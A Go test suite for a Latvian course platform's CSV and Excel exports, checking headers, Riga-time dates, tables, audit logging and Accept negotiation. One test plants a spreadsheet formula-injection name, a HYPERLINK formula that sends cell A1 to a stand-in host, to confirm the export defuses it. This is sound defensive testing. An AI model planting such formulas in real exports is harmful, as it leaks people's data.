package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"mooc/internal/database"
	"mooc/internal/lv"
	"mooc/internal/testenv"
)

// Every list and report that says CSV also comes as an Excel workbook a
// coordinator opens as it is: Latvian headers that stay in view, numbers
// that add up, dates that sort, the same rows as the JSON.

const xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

// readCSV checks that a CSV reply is one, starts with the UTF-8
// byte-order mark (so Excel reads it as UTF-8) and parses; it returns the
// records, the header first.
func readCSV(t *testing.T, r reply) [][]string {
	t.Helper()
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("content type %q, want text/csv", ct)
	}
	if !bytes.HasPrefix(r.body, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("CSV starts with % x, not the UTF-8 byte-order mark", r.body[:min(len(r.body), 3)])
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body[3:])).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	return rows
}

// csvColumns finds the named columns in a CSV header.
func csvColumns(t *testing.T, header []string, names ...string) map[string]int {
	t.Helper()
	out := map[string]int{}
	for _, n := range names {
		i := slices.Index(header, n)
		if i < 0 {
			t.Fatalf("CSV header %v has no %s", header, n)
		}
		out[n] = i
	}
	return out
}

// sheet is a workbook reply read back with excelize.
type sheet struct {
	t      *testing.T
	f      *excelize.File
	name   string
	header []string
	rows   int // rows below the header
}

// readWorkbook checks that a reply is a workbook download of one sheet
// whose header row is frozen, and opens it.
func readWorkbook(t *testing.T, r reply, filePrefix string) sheet {
	t.Helper()
	if ct := r.header.Get("Content-Type"); ct != xlsx {
		t.Fatalf("content type %q, want the workbook's", ct)
	}
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="`+filePrefix) || !strings.HasSuffix(cd, `.xlsx"`) {
		t.Fatalf("content disposition %q, want an attachment %s….xlsx", cd, filePrefix)
	}
	if !strings.Contains(r.header.Get("Vary"), "Accept") {
		t.Fatalf("Vary %q: caches must tell the formats apart", r.header.Get("Vary"))
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.body))
	if err != nil {
		t.Fatalf("not a workbook: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	names := f.GetSheetList()
	if len(names) != 1 {
		t.Fatalf("sheets %v, want one", names)
	}
	if props, err := f.GetDocProps(); err != nil || props.Language != "lv-LV" || props.Creator == "xuri" {
		t.Fatalf("document properties %+v (%v): Latvian, not the library's template", props, err)
	}
	s := sheet{t: t, f: f, name: names[0]}
	panes, err := f.GetPanes(s.name)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Fatalf("panes %+v: the header row is not frozen", panes)
	}
	rows, err := f.GetRows(s.name)
	if err != nil {
		t.Fatal(err)
	}
	s.header, s.rows = rows[0], len(rows)-1
	return s
}

// ref is the cell of the column titled title in data row row (1: the
// first row below the header).
func (s sheet) ref(row int, title string) string {
	s.t.Helper()
	col := slices.Index(s.header, title)
	if col < 0 {
		s.t.Fatalf("no column %q in %v", title, s.header)
	}
	ref, err := excelize.CoordinatesToCellName(col+1, row+1)
	if err != nil {
		s.t.Fatal(err)
	}
	return ref
}

func (s sheet) raw(ref string) (string, excelize.CellType) {
	s.t.Helper()
	v, err := s.f.GetCellValue(s.name, ref, excelize.Options{RawCellValue: true})
	if err != nil {
		s.t.Fatal(err)
	}
	typ, err := s.f.GetCellType(s.name, ref)
	if err != nil {
		s.t.Fatal(err)
	}
	return v, typ
}

// text is a text cell's text; a formula or a number fails.
func (s sheet) text(row int, title string) string {
	s.t.Helper()
	ref := s.ref(row, title)
	v, typ := s.raw(ref)
	if v == "" {
		return ""
	}
	if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
		s.t.Fatalf("%s (%s) is of type %v, not text: %q", ref, title, typ, v)
	}
	if formula, _ := s.f.GetCellFormula(s.name, ref); formula != "" {
		s.t.Fatalf("%s (%s) holds the formula %q", ref, title, formula)
	}
	return v
}

// number is a numeric cell's value; text fails, an empty cell is -1.
func (s sheet) number(row int, title string) float64 {
	s.t.Helper()
	ref := s.ref(row, title)
	v, typ := s.raw(ref)
	if v == "" {
		return -1
	}
	if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		s.t.Fatalf("%s (%s) is of type %v, not a number: %q", ref, title, typ, v)
	}
	n, err := strconv.ParseFloat(v, 64)
	if err != nil {
		s.t.Fatalf("%s (%s) = %q: %v", ref, title, v, err)
	}
	return n
}

// boolean is a boolean cell's value.
func (s sheet) boolean(row int, title string) bool {
	s.t.Helper()
	ref := s.ref(row, title)
	v, typ := s.raw(ref)
	if typ != excelize.CellTypeBool {
		s.t.Fatalf("%s (%s) is of type %v, not a boolean: %q", ref, title, typ, v)
	}
	return v == "1"
}

// date is a date cell's wall-clock time: a number shown with a date and
// time format. An empty cell is the zero time.
func (s sheet) date(row int, title string) time.Time {
	s.t.Helper()
	n := s.number(row, title)
	if n == -1 {
		return time.Time{}
	}
	ref := s.ref(row, title)
	id, err := s.f.GetCellStyle(s.name, ref)
	if err != nil {
		s.t.Fatal(err)
	}
	style, err := s.f.GetStyle(id)
	if err != nil {
		s.t.Fatal(err)
	}
	if style.CustomNumFmt == nil || *style.CustomNumFmt != "dd.mm.yyyy hh:mm" {
		s.t.Fatalf("%s (%s) has the number format %v / %d, not a date and time", ref, title, style.CustomNumFmt, style.NumFmt)
	}
	at, err := excelize.ExcelDateToTime(n, false)
	if err != nil {
		s.t.Fatal(err)
	}
	return at
}

// inRiga is an instant as the wall clock in Riga shows it, to the second,
// as a workbook holds it.
func inRiga(t time.Time) time.Time {
	r := t.In(lv.Riga)
	return time.Date(r.Year(), r.Month(), r.Day(), r.Hour(), r.Minute(), r.Second(), 0, time.UTC)
}

func sameSecond(a, b time.Time) bool { return math.Abs(a.Sub(b).Seconds()) < 1 }

func TestEnrolmentWorkbook(t *testing.T) {
	testenv.ForEachDialect(t, func(t *testing.T, db *database.DB) {
		s := newSchool(t, db, options{})
		c, _ := s.crowdInCohort()
		exports := s.trail(s.team, "action=personal_data.exported&target_id="+c.ID)
		path := "/api/v1/cohorts/" + c.ID + "/enrolments?sort=name"

		wb := readWorkbook(t, s.do(request{method: "GET", path: path, token: s.team, header: map[string]string{"Accept": xlsx}}).expect(t, 200),
			"enrolments-2026-gada-pavasaris")
		want := []string{"Vārds", "Uzvārds", "E-pasts", "Pašvaldība", "Darbavieta", "Amats", "Statuss", "Vieta rindā", "Uzņemts kursā",
			"Apgūtās nodarbības", "Nodarbības kopā", "Nokārtotie testi", "Apgūts, %", "Var saņemt apliecinājumu", "Pieteikšanās laiks",
			"Pieteikšanās ID", "Lietotāja ID"}
		if !slices.Equal(wb.header, want) {
			t.Fatalf("header %q,\nwant %q", wb.header, want)
		}
		items := s.enrolmentList(t, c.ID, "sort=name")
		if wb.rows != len(items) {
			t.Fatalf("%d rows for %d enrolments", wb.rows, len(items))
		}
		words := map[string]string{"enrolled": "uzņemts", "waitlisted": "rindā", "withdrawn": "atteicies"}
		for i, e := range items {
			row := i + 1
			if wb.text(row, "Pieteikšanās ID") != e.ID || wb.text(row, "Lietotāja ID") != e.UserID || wb.text(row, "Vārds") != e.User.GivenName ||
				wb.text(row, "Uzvārds") != e.User.FamilyName || wb.text(row, "E-pasts") != e.User.Email ||
				wb.text(row, "Pašvaldība") != e.User.Municipality || wb.text(row, "Statuss") != words[e.Status] {
				t.Fatalf("row %d is not %+v %+v", row, e, *e.User)
			}
			if pos := wb.number(row, "Vieta rindā"); (e.WaitlistPosition == nil && pos != -1) || (e.WaitlistPosition != nil && pos != float64(*e.WaitlistPosition)) {
				t.Fatalf("row %d: place %v, want %v", row, pos, e.WaitlistPosition)
			}
			if wb.number(row, "Nodarbības kopā") != float64(e.Progress.LessonsTotal) || e.Progress.LessonsTotal == 0 ||
				wb.number(row, "Apgūts, %") != float64(e.Progress.Percent) || wb.boolean(row, "Var saņemt apliecinājumu") != e.Progress.CertificateEligible {
				t.Fatalf("row %d: progress cells are not %+v", row, *e.Progress)
			}
			// Times are the wall clock in Riga, not in UTC.
			if got := wb.date(row, "Pieteikšanās laiks"); !sameSecond(got, inRiga(e.CreatedAt)) {
				t.Fatalf("row %d: enrolled at %s in the workbook, %s in Riga", row, got, inRiga(e.CreatedAt))
			}
			if got := wb.date(row, "Uzņemts kursā"); (e.EnrolledAt == nil) != got.IsZero() || (e.EnrolledAt != nil && !sameSecond(got, inRiga(*e.EnrolledAt))) {
				t.Fatalf("row %d: seated at %s in the workbook, %v in JSON", row, got, e.EnrolledAt)
			}
		}
		// The rows are a table (filter buttons), the header its first row.
		tables, err := wb.f.GetTables(wb.name)
		if err != nil || len(tables) != 1 || tables[0].Range != fmt.Sprintf("A1:Q%d", len(items)+1) {
			t.Fatalf("tables %+v (%v)", tables, err)
		}

		// A workbook is an export of personal data like the CSV.
		exports.next(t, s.team, 1)[0].wantDetails(t, map[string]string{"list": `"enrolments"`, "format": `"xlsx"`, "rows": `7`})
		wb = readWorkbook(t, s.do(request{method: "GET", path: path + "&status=withdrawn", token: s.team, header: map[string]string{"Accept": xlsx}}).expect(t, 200), "enrolments-")
		if wb.rows != 1 || wb.text(1, "Vārds") != "" || wb.text(1, "Statuss") != "atteicies" {
			t.Fatalf("the closed account's row: %d rows", wb.rows)
		}
		exports.next(t, s.team, 1)[0].wantDetails(t, map[string]string{"list": `"enrolments"`, "format": `"xlsx"`, "rows": `1`, "status": `["withdrawn"]`})
	})
}

func TestApplicationWorkbook(t *testing.T) {
	testenv.ForEachDialect(t, func(t *testing.T, db *database.DB) {
		s := newSchool(t, db, options{})
		p := s.programme(map[string]any{"title": "Krīzes intervence: Vidzeme"})
		path := "/api/v1/programmes/" + p.ID + "/applications"
		exports := s.trail(s.team, "action=personal_data.exported&target_id="+p.ID)
		// A name that is a formula: run by a spreadsheet that reads the
		// CSV unguarded, shown as typed by the workbook.
		formula := `=HYPERLINK("https://example.test/?q="&A1,"Ozoliņa")`
		body := registration()
		body["given_name"], body["family_name"] = "@Līga", formula
		hostile, token := s.register(body)
		s.do(request{method: "POST", path: path, token: token, body: map[string]any{"municipality": "Ogres novads", "took_part_in_pilot": true}}).expect(t, 201)
		_, token = s.signUp()
		s.do(request{method: "POST", path: path, token: token, body: map[string]any{"municipality": "Ķekavas novads", "took_part_in_pilot": false}}).expect(t, 201)

		var l struct{ Items []listedApplication }
		s.do(request{method: "GET", path: path, token: s.team}).expect(t, 200).json(t, &l)
		wb := readWorkbook(t, s.do(request{method: "GET", path: path, token: s.team, header: map[string]string{"Accept": xlsx}}).expect(t, 200),
			"applications-krizes-intervence-vidzeme")
		want := []string{"Vārds", "Uzvārds", "E-pasts", "Pašvaldība", "Darbavieta", "Amats", "Piedalījās pilotprojektā", "Statuss", "Vieta rindā",
			"Apmeklētās stundas", "Pieteikšanās laiks", "Pieteikuma ID", "Lietotāja ID"}
		if !slices.Equal(wb.header, want) || wb.rows != 2 || len(l.Items) != 2 {
			t.Fatalf("header %q with %d rows for %d applications", wb.header, wb.rows, len(l.Items))
		}
		for i, a := range l.Items {
			row := i + 1
			if wb.text(row, "Pieteikuma ID") != a.ID || wb.text(row, "Vārds") != a.User.GivenName || wb.text(row, "Uzvārds") != a.User.FamilyName ||
				wb.text(row, "Pašvaldība") != a.Municipality || wb.text(row, "Statuss") != "pieteicies" ||
				wb.boolean(row, "Piedalījās pilotprojektā") != a.TookPartInPilot || wb.number(row, "Apmeklētās stundas") != float64(a.AttendedHours) ||
				!sameSecond(wb.date(row, "Pieteikšanās laiks"), inRiga(a.AppliedAt)) {
				t.Fatalf("row %d is not %+v %+v", row, a, *a.User)
			}
		}
		if got := wb.text(2, "Uzvārds"); got != formula || l.Items[1].UserID != hostile.ID {
			t.Fatalf("the formula name reads %q in the workbook", got)
		}
		exports.next(t, s.team, 1)[0].wantDetails(t, map[string]string{"list": `"applications"`, "format": `"xlsx"`, "rows": `2`})

		// The CSV defuses it with an apostrophe, as before.
		rows := readCSV(t, s.do(request{method: "GET", path: path, token: s.team, header: map[string]string{"Accept": "text/csv"}}).expect(t, 200))
		col := csvColumns(t, rows[0], "given_name", "family_name")
		if rows[2][col["family_name"]] != "'"+formula || rows[2][col["given_name"]] != "'@Līga" {
			t.Fatalf("CSV row %v", rows[2])
		}
	})
}

func TestCompletionsWorkbook(t *testing.T) {
	testenv.ForEachDialect(t, func(t *testing.T, db *database.DB) {
		s := newSchool(t, db, options{})
		ending := s.cohort(200, 30*24*time.Hour) // ends in five days
		_, annaToken := s.signUpIn("Ogres novads")
		_, bertaToken := s.signUpIn("Ogres novads")
		_, cilvToken := s.signUpIn("Rīga")
		ea := s.enrolled(annaToken, ending.ID)
		s.enrolled(bertaToken, ending.ID)
		s.enrolled(cilvToken, ending.ID)
		s.complete(annaToken, ea.ID)

		now := time.Now().UTC()
		from, to := now.Add(-24*time.Hour).Format("2006-01-02"), now.Add(10*24*time.Hour).Format("2006-01-02")
		path := "/api/v1/reports/completions?from=" + from + "&to=" + to
		var rep struct {
			Rows []struct {
				Municipality        string
				Enrolled, Completed int
			}
			People int `json:"people_completed"`
		}
		s.do(request{method: "GET", path: path, token: s.team}).expect(t, 200).json(t, &rep)
		if len(rep.Rows) != 2 || rep.Rows[0].Municipality != "Ogres novads" || rep.Rows[0].Enrolled != 2 || rep.Rows[0].Completed != 1 || rep.People != 1 {
			t.Fatalf("report %+v", rep)
		}

		rows := readCSV(t, s.do(request{method: "GET", path: path, token: s.team, header: map[string]string{"Accept": "text/csv"}}).expect(t, 200))
		if rows[0][0] != "kind" || len(rows) != 4 || rows[3][0] != "total" || rows[3][12] != "1" || rows[1][7] != "Ogres novads" {
			t.Fatalf("CSV %v", rows)
		}

		wb := readWorkbook(t, s.do(request{method: "GET", path: path, token: s.team, header: map[string]string{"Accept": xlsx}}).expect(t, 200),
			"completions-"+from+"-"+to)
		want := []string{"Veids", "Kurss", "Grupa", "Programma", "Pašvaldība", "Plānošanas reģions", "Pieteikušies", "Pabeiguši",
			"Saņēmuši apliecinājumu", "Pabeigušo personu skaits", "Kursa ID", "Grupas ID", "Programmas ID"}
		if !slices.Equal(wb.header, want) || wb.rows != 3 {
			t.Fatalf("header %q with %d rows", wb.header, wb.rows)
		}
		if wb.text(1, "Veids") != "e-mācību kurss" || wb.text(1, "Pašvaldība") != "Ogres novads" || wb.text(1, "Plānošanas reģions") != "Vidzeme" ||
			wb.number(1, "Pieteikušies") != 2 || wb.number(1, "Pabeiguši") != 1 || wb.number(1, "Pabeigušo personu skaits") != -1 ||
			wb.text(1, "Grupa") != "2026. gada pavasaris" || wb.text(1, "Grupas ID") != ending.ID {
			t.Fatalf("first row of %q", wb.header)
		}
		// The totals follow the table, so sorting it leaves them last.
		if wb.text(3, "Veids") != "Kopā" || wb.number(3, "Pieteikušies") != 3 || wb.number(3, "Pabeiguši") != 1 || wb.number(3, "Pabeigušo personu skaits") != 1 {
			t.Fatalf("totals row of %q", wb.header)
		}
		tables, err := wb.f.GetTables(wb.name)
		if err != nil || len(tables) != 1 || tables[0].Range != "A1:M3" {
			t.Fatalf("tables %+v (%v)", tables, err)
		}
		s.do(request{method: "GET", path: path, token: s.author, header: map[string]string{"Accept": xlsx}}).problem(t, 403, "forbidden")
		s.do(request{method: "GET", path: path, token: s.learner, header: map[string]string{"Accept": xlsx}}).problem(t, 403, "forbidden")
	})
}

// Accept picks the format by name and quality; one that names neither CSV
// nor the workbook (a browser's) gets JSON, as before.
func TestSpreadsheetNegotiation(t *testing.T) {
	testenv.ForEachDialect(t, func(t *testing.T, db *database.DB) {
		s := newCatalogue(t, db.Dialect(), db)
		for accept, want := range map[string]string{
			"":    "application/json",
			"*/*": "application/json",
			"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8": "application/json",
			"text/*":                             "application/json",
			"text/csv":                           "text/csv",
			"TEXT/CSV; charset=utf-8":            "text/csv",
			"application/json;q=0.5, text/csv":   "text/csv",
			"text/csv;q=0.4, " + xlsx + ";q=0.8": xlsx,
			xlsx + ", text/csv":                  xlsx,
			"text/csv;q=0, application/json":     "application/json",
			"text/csv;q=0":                       "application/json",
		} {
			r := s.do(request{method: "GET", path: "/api/v1/reports/completions", token: s.team, header: map[string]string{"Accept": accept}}).expect(t, 200)
			if got := r.header.Get("Content-Type"); !strings.HasPrefix(got, want) {
				t.Errorf("Accept %q: %q, want %s", accept, got, want)
			}
			if !strings.Contains(r.header.Get("Vary"), "Accept") {
				t.Errorf("Accept %q: Vary %q", accept, r.header.Get("Vary"))
			}
		}
	})
}
